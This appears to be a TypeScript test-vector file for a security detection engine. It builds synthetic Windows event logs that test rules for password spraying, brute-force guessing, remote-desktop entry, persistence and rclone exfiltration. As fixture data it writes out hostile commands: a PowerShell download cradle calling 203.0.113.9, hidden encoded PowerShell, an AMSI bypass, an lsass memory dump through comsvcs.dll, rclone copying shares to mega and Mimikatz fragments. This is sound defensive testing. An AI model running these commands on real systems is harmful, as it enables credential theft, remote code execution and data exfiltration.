import { A, Drawing, type DrawnRow, H } from '../../support/drawing';
import type { Vectors } from './vector';

const home = (phase: number): Drawing => new Drawing(phase).baseline('cfo', H);
const bombed = (phase: number): Drawing => home(phase).prompts('cfo 09:00 +10s d d d d d A', A);

const WINDOWS: Partial<DrawnRow> = { log: 'windows.event', host: 'WS01.firm.example' };

/** `n` events of a Windows host at even times. */
function windows(
  d: Drawing,
  clock: string,
  operation: string,
  more: Partial<DrawnRow>,
  n = 1,
  gapMs = 0,
): Drawing {
  for (let i = 0; i < n; i++)
    d.add({ time: d.at(clock) + i * gapMs, kind: 'other', user: 'cfo', operation, ...WINDOWS, ...more });
  return d;
}
const failed = (d: Drawing, n: number, ip: string, gapMs = 60_000, more: Partial<DrawnRow> = {}): Drawing =>
  windows(
    d,
    '08:40',
    '4625 Logon failed',
    { kind: 'logon', ip, logonType: '3', outcome: 'failure', code: '0xc000006a', ...more },
    n,
    gapMs,
  );
/** The same as a domain controller tells it: by Kerberos, or by NTLM, which names a workstation. */
const refused = (d: Drawing, n: number, gapMs: number, more: Partial<DrawnRow>, offsetMs = 0): Drawing => {
  for (let i = 0; i < n; i++)
    windows(d, '08:40', '4771 Kerberos pre-authentication failed', {
      ...{ kind: 'logon', outcome: 'failure', code: '0x18', host: 'DC01.firm.example' },
      ...{ time: d.at('08:40') + i * gapMs + offsetMs },
      ...more,
    });
  return d;
};
const NTLM: Partial<DrawnRow> = {
  operation: '4776 Credentials validated by NTLM',
  code: '0xc000006a',
  device: '\\\\KALI',
};
/** Credentials of `n` accounts used on a host by one. */
function used(d: Drawing, n: number, gapMs: number, by: Record<string, string> = {}): Drawing {
  const parameters = { SubjectUserName: 'jwrig', ProcessName: 'C:\\Windows\\System32\\cmd.exe', ...by };
  for (let i = 0; i < n; i++)
    windows(d, '08:40', '4648 Logon with explicit credentials', {
      ...{ kind: 'logon', user: `user${i}`, parameters, time: d.at('08:40') + i * gapMs },
    });
  return d;
}
/** Logons of `n` accounts that failed. */
function sprayed(d: Drawing, n: number, more: Partial<DrawnRow>): Drawing {
  for (let i = 0; i < n; i++)
    windows(d, '08:40', '4625 Logon failed', {
      ...{ kind: 'logon', user: `user${i}`, outcome: 'failure', code: '0xc000006a' },
      ...{ time: d.at('08:40') + i * 1_000, ...more },
    });
  return d;
}
const logon = (d: Drawing, clock: string, ip: string, more: Partial<DrawnRow> = {}): Drawing =>
  windows(d, clock, '4624 Logon', { kind: 'logon', ip, logonType: '10', ...more });
const program = (
  d: Drawing,
  clock: string,
  path: string,
  line: string,
  more: Partial<DrawnRow> = {},
): Drawing =>
  windows(d, clock, '4688 Process created', {
    kind: 'process',
    target: path,
    parameters: { CommandLine: line },
    ...more,
  });
const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const encoded = `powershell.exe -nop -w hidden -enc ${utf16("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')")}`;
const RUNDLL = 'C:\\Windows\\System32\\rundll32.exe';
const RCLONE = 'C:\\Users\\cfo\\Downloads\\rclone.exe';
const task = (d: Drawing, content: string, more: Partial<DrawnRow> = {}): Drawing =>
  windows(d, '09:20', '4698 Scheduled task created', {
    target: '\\Updater',
    parameters: { TaskContent: content },
    ...more,
  });
const CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')";
const script = (d: Drawing, clock: string, text: string, more: Record<string, string> = {}): Drawing =>
  windows(d, clock, '4104 PowerShell script block', {
    kind: 'process',
    parameters: { ScriptBlockText: text, ScriptBlockId: 'b1', ...more },
  });
const logged = (d: Drawing, clock: string, payload: string, begun: string): Drawing =>
  windows(d, clock, '4103 PowerShell command run', {
    kind: 'process',
    parameters: { Payload: payload, ContextInfo: `        Host Application = ${begun}\r\n` },
  });
const SID = 'S-1-5-21-1-2-3-1107';
const madeAdmin = (d: Drawing, group: string, at = '09:21', by = 'cfo'): Drawing =>
  windows(
    windows(d, '09:20', '4720 User account created', {
      kind: 'directory',
      target: 'support1',
      parameters: { TargetSid: SID },
    }),
    at,
    '4732 Member added to a local group',
    {
      kind: 'directory',
      user: by,
      target: 'Administrators',
      parameters: { MemberSid: SID, TargetSid: group },
    },
  );

/** Rules on Windows hosts. */
export const endpoint: Record<string, Vectors> = {
  'windows-spray': {
    must: [
      {
        name: 'ten accounts used by one in exactly ten minutes',
        draw: (p) => used(home(p), 10, 66_666),
        count: 10,
        findings: 1,
        severity: 'medium',
      },
      {
        name: 'ten accounts refused to one address inside',
        draw: (p) => sprayed(home(p), 10, { ip: '10.0.0.9' }),
        count: 10,
        findings: 1,
      },
      {
        name: 'ten accounts refused to one workstation by NTLM',
        draw: (p) => sprayed(home(p), 10, NTLM),
        count: 10,
      },
    ],
    not: [
      { name: 'nine accounts', draw: (p) => used(home(p), 9, 10_000) },
      { name: 'over more than ten minutes', draw: (p) => used(home(p), 10, 66_667) },
      { name: 'used by Windows itself', draw: (p) => used(home(p), 20, 1_000, { SubjectUserName: 'WS01$' }) },
      {
        name: 'used at the logon of each',
        draw: (p) => used(home(p), 20, 1_000, { ProcessName: 'C:\\Windows\\System32\\winlogon.exe' }),
      },
      { name: 'one account many times', draw: (p) => failed(home(p), 40, '10.0.0.9', 1_000) },
      {
        name: 'no wrong password',
        draw: (p) => sprayed(home(p), 20, { ip: '10.0.0.9', code: '0xc0000224' }),
      },
      {
        name: 'each from an address of their own',
        draw: (p) => {
          const d = home(p);
          for (let i = 0; i < 20; i++) sprayed(d, 1, { ip: `10.0.1.${i}`, user: `user${i}` });
          return d;
        },
      },
    ],
  },
  'windows-guessing': {
    must: [
      {
        name: 'ten in exactly ten minutes, by whoever then prompts',
        draw: (p) => failed(bombed(p), 10, A.ip, 66_666),
        count: 10,
        findings: 1,
        severity: 'medium',
      },
      { name: 'nobody got in', draw: (p) => failed(home(p), 12, A.ip), count: 12, severity: 'low' },
      {
        name: 'as a domain controller tells it by Kerberos, by whoever then prompts',
        draw: (p) => refused(bombed(p), 10, 60_000, { ip: A.ip }),
        count: 10,
        findings: 1,
        severity: 'medium',
      },
      {
        name: 'five at the host, and five others at a domain controller',
        draw: (p) => refused(failed(home(p), 5, A.ip), 5, 60_000, { ip: A.ip }, 1_001),
        count: 10,
        findings: 1,
      },
      {
        name: 'of each the host, Kerberos and NTLM at two domain controllers tell within a second: they count once',
        draw: (p) => {
          const d = failed(home(p), 10, A.ip, 20_000, { device: 'KALI' });
          refused(d, 10, 20_000, { ip: A.ip }, 400);
          refused(d, 10, 20_000, NTLM, 1_000);
          return refused(d, 10, 20_000, { ...NTLM, host: 'DC02.firm.example' }, 900);
        },
        count: 10,
        findings: 1,
      },
      {
        name: 'by NTLM alone, from a workstation nobody logged on from',
        draw: (p) => refused(home(p), 10, 60_000, NTLM),
        count: 10,
        findings: 1,
        severity: 'low',
      },
      {
        name: 'by NTLM, from a workstation that one failed logon gives an address',
        draw: (p) => refused(failed(bombed(p), 1, A.ip, 0, { device: 'kali' }), 9, 60_000, NTLM, 5_000),
        count: 10,
        findings: 1,
        severity: 'medium',
      },
      {
        name: 'by NTLM, for an account that is not there',
        draw: (p) => refused(home(p), 10, 60_000, { ...NTLM, code: '0xc0000064', user: 'cfo' }),
        count: 10,
      },
    ],
    not: [
      { name: 'nine', draw: (p) => failed(bombed(p), 9, A.ip) },
      { name: 'over more than ten minutes', draw: (p) => failed(bombed(p), 10, A.ip, 66_667) },
      {
        name: 'five attempts of which the host and a domain controller tell',
        draw: (p) => refused(failed(home(p), 5, A.ip), 5, 60_000, { ip: A.ip }, 1_000),
      },
      {
        name: 'five of which NTLM tells without the workstation',
        draw: (p) => {
          const d = refused(failed(home(p), 5, A.ip), 5, 60_000, { ...NTLM, device: '' }, 300);
          return refused(d, 5, 60_000, { ...NTLM, device: '' }, 30_000);
        },
      },
      { name: 'Kerberos from inside', draw: (p) => refused(home(p), 40, 1_000, { ip: '10.1.2.3' }) },
      {
        name: 'Kerberos for an account that is locked',
        draw: (p) => refused(home(p), 40, 1_000, { ip: A.ip, code: '0x12' }),
      },
      {
        name: 'NTLM for an account that is disabled',
        draw: (p) => refused(home(p), 40, 1_000, { ...NTLM, code: '0xc0000072' }),
      },
      {
        name: 'NTLM from a workstation somebody logged on from',
        draw: (p) =>
          logon(refused(home(p), 40, 1_000, { ...NTLM, device: 'WS07' }), '15:00', '10.1.2.3', {
            user: 'colleague',
            device: 'ws07.firm.example',
          }),
      },
      {
        name: 'NTLM from a computer whose log is here',
        draw: (p) => refused(failed(home(p), 1, A.ip), 40, 1_000, { ...NTLM, device: 'WS01' }),
      },
      { name: 'an address inside', draw: (p) => failed(home(p), 40, '10.1.2.3') },
      { name: 'the user’s own address', draw: (p) => failed(home(p), 40, H.ip) },
      {
        name: 'another failure than a wrong password',
        draw: (p) => failed(home(p), 40, A.ip, 1_000, { code: '0xc0000072' }),
      },
      {
        name: 'a machine account',
        draw: (p) => failed(home(p), 40, A.ip, 1_000, { user: 'ws01$', userType: 'system' }),
      },
    ],
  },
  'windows-entry': {
    must: [
      {
        name: 'remote desktop from the attacker’s address',
        draw: (p) => logon(bombed(p), '09:15', A.ip),
        count: 1,
        findings: 1,
        severity: 'high',
      },
      {
        name: 'as Defender tells it',
        draw: (p) =>
          windows(bombed(p), '09:15', 'LogonSuccess', {
            log: 'defender.device-logon',
            kind: 'logon',
            ip: A.ip,
            logonType: 'RemoteInteractive',
          }),
        severity: 'high',
      },
      {
        name: 'from another public address, after the access',
        draw: (p) => logon(bombed(p), '09:15', '192.0.2.77', { logonType: '3' }),
        severity: 'medium',
      },
      { name: 'nobody got in', draw: (p) => logon(home(p), '09:15', '192.0.2.77'), severity: 'low' },
      {
        name: 'explicit credentials used by a shell, after the access',
        draw: (p) =>
          windows(bombed(p), '09:15', '4648 Logon with explicit credentials', {
            kind: 'logon',
            parameters: { ProcessName: 'C:\\Windows\\System32\\cmd.exe' },
          }),
        severity: 'medium',
      },
    ],
    not: [
      { name: 'at the keyboard', draw: (p) => logon(bombed(p), '09:15', A.ip, { logonType: '2' }) },
      { name: 'an address inside', draw: (p) => logon(bombed(p), '09:15', '172.16.4.5') },
      { name: 'from home', draw: (p) => logon(bombed(p), '09:15', H.ip) },
      { name: 'a logon that failed', draw: (p) => logon(bombed(p), '09:15', A.ip, { outcome: 'failure' }) },
      {
        name: 'a machine account',
        draw: (p) => logon(home(p), '09:15', A.ip, { user: 'ws01$', userType: 'system' }),
      },
      {
        name: 'explicit credentials, nobody got in',
        draw: (p) =>
          windows(home(p), '09:15', '4648 Logon with explicit credentials', {
            kind: 'logon',
            parameters: { ProcessName: 'C:\\Windows\\System32\\cmd.exe' },
          }),
      },
      {
        name: 'explicit credentials of the logon screen',
        draw: (p) =>
          windows(bombed(p), '09:15', '4648 Logon with explicit credentials', {
            kind: 'logon',
            parameters: { ProcessName: 'C:\\Windows\\System32\\winlogon.exe' },
          }),
      },
    ],
  },
  'windows-persistence': {
    must: [
      {
        name: 'an encoded command on the host the intruder logged on to',
        draw: (p) => program(logon(bombed(p), '09:15', A.ip), '09:20', POWERSHELL, encoded),
        findings: 1,
        severity: 'high',
      },
      {
        name: 'an encoded command on a host nobody was seen to enter',
        draw: (p) => program(bombed(p), '09:20', POWERSHELL, encoded),
        severity: 'medium',
      },
      { name: 'nobody got in', draw: (p) => program(home(p), '09:20', POWERSHELL, encoded), severity: 'low' },
      {
        name: 'a script that fetches code and runs it, on the host the intruder logged on to',
        draw: (p) => script(logon(bombed(p), '09:15', A.ip), '09:20', CRADLE),
        findings: 1,
        count: 1,
        severity: 'high',
      },
      { name: 'the same, nobody got in', draw: (p) => script(home(p), '09:20', CRADLE), severity: 'low' },
      {
        name: 'a script that is telling only when its parts are put together',
        draw: (p) =>
          script(
            script(home(p), '09:20', '-Mimikatz', { MessageNumber: '2', MessageTotal: '2' }),
            '09:20',
            'Invoke',
            { MessageNumber: '1', MessageTotal: '2' },
          ),
        findings: 1,
        count: 1,
      },
      {
        name: 'an encoded command in a script',
        draw: (p) => script(home(p), '09:20', `if (1) {\n  ${encoded}\n}`),
      },
      {
        name: 'a logged command that turns off the scan for malware',
        draw: (p) => logged(home(p), '09:20', 'CommandInvocation(Out-Null): [x]::amsiInitFailed', ''),
      },
      {
        name: 'a telling command line, not encoded',
        draw: (p) => program(home(p), '09:20', POWERSHELL, `powershell -c "${CRADLE}"`),
      },
      {
        name: 'one encoded command of which three logs tell, and every command of it again',
        draw: (p) => {
          const d = program(home(p), '09:20', POWERSHELL, encoded);
          for (const clock of ['09:20:01', '09:20:02', '09:50', '15:00'])
            logged(d, clock, 'Get-Date', encoded);
          return program(d, '09:20', POWERSHELL, encoded, { operation: '1 Process created (Sysmon)' });
        },
        findings: 1,
        count: 1,
      },
      {
        name: 'a task out of a folder anybody may write to',
        draw: (p) => task(home(p), '<Exec><Command>C:\\Users\\Public\\u.exe</Command></Exec>'),
      },
      {
        name: 'a new service',
        draw: (p) =>
          windows(home(p), '09:20', '7045 Service installed', {
            target: 'UpdaterSvc',
            parameters: { ImagePath: 'cmd.exe /c start x' },
          }),
      },
      { name: 'an account made administrator', draw: (p) => madeAdmin(home(p), 'S-1-5-32-544', '10:20') },
      { name: 'rundll32 alone', draw: (p) => program(home(p), '09:20', RUNDLL, `"${RUNDLL}"`) },
      {
        name: 'lsass dumped',
        draw: (p) =>
          program(
            home(p),
            '09:20',
            RUNDLL,
            'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t.dmp full',
          ),
      },
      { name: 'the audit log cleared', draw: (p) => windows(home(p), '09:20', '1102 Audit log cleared', {}) },
    ],
    not: [
      {
        name: 'a task out of Program Files',
        draw: (p) => task(bombed(p), '<Command>C:\\Program Files\\A\\u.exe</Command>'),
      },
      {
        name: 'a task of an updater',
        draw: (p) =>
          task(
            bombed(p),
            '<Command>%localappdata%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe</Command>',
          ),
      },
      {
        name: 'a task of the machine',
        draw: (p) =>
          task(bombed(p), '<Command>powershell.exe</Command>', { user: 'SYSTEM', userType: 'system' }),
      },
      { name: 'put among other users', draw: (p) => madeAdmin(bombed(p), 'S-1-5-32-545') },
      {
        name: 'put among the administrators too late',
        draw: (p) => madeAdmin(bombed(p), 'S-1-5-32-544', '10:20:01'),
      },
      {
        name: 'put among the administrators by somebody else',
        draw: (p) => madeAdmin(home(p), 'S-1-5-32-544', '09:21', 'admin7'),
      },
      {
        name: 'PowerShell with a policy',
        draw: (p) =>
          program(
            bombed(p),
            '09:20',
            POWERSHELL,
            'powershell.exe -ep bypass -File C:\\Tools\\aVeryLongScriptNameIndeed.ps1',
          ),
      },
      {
        name: 'a script that fetches a file',
        draw: (p) => script(bombed(p), '09:20', 'iwr $u -OutFile a.msi'),
      },
      {
        name: 'a script of which the telling part lies between parts that no log holds',
        draw: (p) =>
          script(
            script(bombed(p), '09:20', 'Invoke', { MessageNumber: '1', MessageTotal: '3' }),
            '09:20',
            '-Mimikatz',
            { MessageNumber: '3', MessageTotal: '3' },
          ),
      },
      {
        name: 'a logged command of the day',
        draw: (p) => logged(bombed(p), '09:20', 'CommandInvocation(Get-Date)', 'powershell.exe -NoLogo'),
      },
      {
        name: 'the machine’s own script',
        draw: (p) =>
          windows(bombed(p), '09:20', '4104 PowerShell script block', {
            kind: 'process',
            parameters: { ScriptBlockText: CRADLE },
            userType: 'system',
          }),
      },
      {
        name: 'rundll32 with a library',
        draw: (p) => program(bombed(p), '09:20', RUNDLL, 'rundll32.exe shell32.dll,Control_RunDLL'),
      },
      {
        name: 'the machine’s own command',
        draw: (p) => program(bombed(p), '09:20', POWERSHELL, encoded, { user: 'ws01$', userType: 'system' }),
      },
    ],
  },
  'cloud-copy': {
    must: [
      {
        name: 'rclone on the host the intruder logged on to',
        draw: (p) =>
          program(logon(bombed(p), '09:15', A.ip), '09:40', RCLONE, 'rclone copy C:\\Shares mega:x'),
        findings: 1,
        count: 1,
        severity: 'high',
      },
      { name: 'after the access', draw: (p) => program(bombed(p), '09:40', RCLONE, ''), severity: 'medium' },
      { name: 'nobody got in', draw: (p) => program(home(p), '09:40', RCLONE, ''), severity: 'low' },
      {
        name: 'a connection of it',
        draw: (p) =>
          windows(home(p), '09:40', '3 Network connection (Sysmon)', {
            target: 'g.api.mega.co.nz',
            parameters: { Image: RCLONE },
          }),
      },
      {
        name: 'a storage app opened by the intruder',
        draw: (p) => bombed(p).codes('cfo 09:30 +1m 1 0', A, { app: 'Dropbox Business' }),
        severity: 'medium',
      },
    ],
    not: [
      {
        name: 'another program',
        draw: (p) => program(bombed(p), '09:40', 'C:\\Tools\\myrclone-notes.exe', 'rclone'),
      },
      {
        name: 'a backup of the machine',
        draw: (p) => program(bombed(p), '09:40', RCLONE, '', { user: 'SYSTEM', userType: 'system' }),
      },
      {
        name: 'a storage app at the usual desk',
        draw: (p) => bombed(p).codes('cfo 09:30 +1m 1 0', H, { app: 'Dropbox' }),
      },
      {
        name: 'an app that is no store',
        draw: (p) => bombed(p).codes('cfo 09:30 +1m 1 0', A, { app: 'Boxed Lunch' }),
      },
    ],
  },
};
